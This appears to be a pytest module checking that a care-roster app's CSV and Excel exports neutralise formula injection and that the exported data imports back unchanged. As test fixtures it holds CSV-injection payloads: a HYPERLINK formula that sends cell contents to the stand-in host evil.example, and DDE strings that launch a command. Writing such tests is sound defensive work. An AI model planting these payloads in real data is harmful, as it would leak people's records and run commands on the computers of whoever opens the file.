"""Exports are inert: no text a volunteer typed becomes a live formula in Excel or WPS.

A care note such as ``=HYPERLINK("http://evil.example/?"&A2&B2&F2, …)`` must open as the
text it is, in CSV and in .xlsx, and an edited export must import back unchanged.
"""
from __future__ import annotations

import csv
import io
from datetime import timedelta

from openpyxl import load_workbook
from testkit.web_scenario import add_visit, today_local

from server.roster.columns import find_header
from server.roster.plan import read_table
from shared.clock import utcnow

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2&B2&F2,"查看详情")'
PAYLOADS = {
    "care_notes": HYPERLINK,
    "emergency_contact": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "-2+3+cmd|' /C calc'!A0",
}
VISIT_NOTES = [HYPERLINK, "+1+1", "\t=1+1", "\r=1+1", "-1", "@A1"]
#: What spreadsheet programs start a formula (or a DDE call) with.
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def poison(db_session, scenario) -> None:
    zhang = scenario.residents["zhang"]
    for field_name, value in PAYLOADS.items():
        setattr(zhang, field_name, value)
    for note in VISIT_NOTES:
        add_visit(db_session, zhang, scenario.people["vol_a"], utcnow() - timedelta(hours=1),
                  note=note)
    db_session.commit()


def download(web, kind: str, fmt: str) -> bytes:
    today = today_local()
    response = web.get(f"/export/download?kind={kind}&format={fmt}"
                       f"&from={today - timedelta(days=2)}&to={today}")
    assert response.status_code == 200
    return response.data


def csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_xlsx_exports_hold_no_formula(as_user, scenario, db_session):
    poison(db_session, scenario)
    web = as_user("kunwu_sup")
    for kind in ("residents", "visits"):
        book = load_workbook(io.BytesIO(download(web, kind, "xlsx")))
        cells = [cell for row in book.active.iter_rows() for cell in row]
        assert cells
        formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert formulas == [], f"{kind}: formulas in {formulas}"
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert not [t for t in texts if t.startswith(DANGEROUS_START)], kind
        assert any("HYPERLINK" in text for text in texts), kind  # kept, as text


def test_csv_exports_start_every_cell_safely(as_user, scenario, db_session):
    poison(db_session, scenario)
    web = as_user("kunwu_sup")
    for kind in ("residents", "visits"):
        table = csv_cells(download(web, kind, "csv"))
        unsafe = [cell for row in table for cell in row if cell.startswith(DANGEROUS_START)]
        assert unsafe == [], kind
        assert any(HYPERLINK in cell for row in table for cell in row), kind


def test_an_exported_roster_reads_back_as_it_was_written(as_user, scenario, db_session):
    """Neutralising is undone by the import: the text the volunteer typed round-trips."""
    poison(db_session, scenario)
    web = as_user("kunwu_sup")
    for fmt in ("csv", "xlsx"):
        table = read_table(f"export.{fmt}", download(web, "residents", fmt))
        header = find_header(table)
        row = next(r for r in table[1:] if r[header.column_of("name")] == "张利霞")
        for field_name, value in PAYLOADS.items():
            assert row[header.column_of(field_name)] == value, (fmt, field_name)
